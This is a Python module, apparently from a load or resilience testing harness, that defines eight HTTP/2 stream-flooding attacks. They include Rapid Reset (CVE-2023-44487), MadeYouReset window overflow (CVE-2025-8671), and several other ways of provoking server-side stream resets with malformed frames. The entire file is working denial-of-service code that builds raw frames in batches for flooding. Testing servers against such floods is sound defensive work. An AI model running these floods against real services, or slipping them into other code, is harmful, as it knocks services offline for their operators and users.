# SPDX-License-Identifier: Apache-2.0
"""Streams that are opened to be thrown away, by the client or by provoking the server."""

from campaign import attack
from peer import DATA, END_STREAM, PRIORITY, RESET, WINDOW, data_frames, open_call, request
from wire import frame, message

CANCEL = (8).to_bytes(4, "big")
BATCH = 50


def streams(block, then):
    """Opens streams and does something to each."""

    def begin(peer):
        def make():
            opened = (peer.stream() for _ in range(BATCH))
            return b"".join(open_call(stream, block) + then(stream) for stream in opened)

        return make

    return begin


@attack("rapid reset", cut=2, attackers=2)
def rapid_reset(run):
    """CVE-2023-44487: opens a call and takes it back, so that the limit on calls at once never counts."""
    run.flood(streams(request(token=run.token), lambda stream: frame(RESET, 0, stream, CANCEL)))


@attack("rapid reset of whole calls", cut=2, attackers=2)
def rapid_reset_of_whole_calls(run):
    """The same, once the server has all it needs to begin the work."""
    whole = lambda stream: b"".join(data_frames(stream, message())) + frame(RESET, 0, stream, CANCEL)
    run.flood(streams(request(token=run.token), whole))


@attack("provoked reset: window overflow", cut=2, attackers=2)
def window_overflow(run):
    """CVE-2025-8671, "MadeYouReset": a window beyond 2^31 makes the server reset the stream itself."""
    too_much = (2**31 - 1).to_bytes(4, "big")
    run.flood(streams(request(token=run.token), lambda stream: frame(WINDOW, 0, stream, too_much)))


@attack("provoked reset: window of zero", cut=2, attackers=2)
def window_of_zero(run):
    """An increment of zero is an error of the stream."""
    run.flood(streams(request(token=run.token), lambda stream: frame(WINDOW, 0, stream, bytes(4))))


@attack("provoked reset: content-length", cut=2, attackers=2)
def content_length(run):
    """A body that is not as long as its headers said."""
    block = request(token=run.token, content_length="3")
    run.flood(streams(block, lambda stream: frame(DATA, END_STREAM, stream, message())))


@attack("provoked reset: half-closed", cut=2, attackers=2)
def half_closed(run):
    """DATA after the end of the request."""
    block = request(token=run.token)
    after = lambda stream: frame(DATA, END_STREAM, stream, message()) + frame(DATA, 0, stream, b"x")
    run.flood(streams(block, after))


@attack("provoked reset: own parent", cut=2, attackers=2)
def own_parent(run):
    """A PRIORITY frame that makes a stream depend on itself."""
    loop = lambda stream: frame(PRIORITY, 0, stream, stream.to_bytes(4, "big") + b"\x10")
    run.flood(streams(request(token=run.token), loop))


@attack("resets by tokenless calls", cut=2, attackers=2)
def tokenless(run):
    """Calls without a token are answered at once, while the client still sends."""
    run.flood(streams(request(), lambda stream: frame(RESET, 0, stream, CANCEL)))
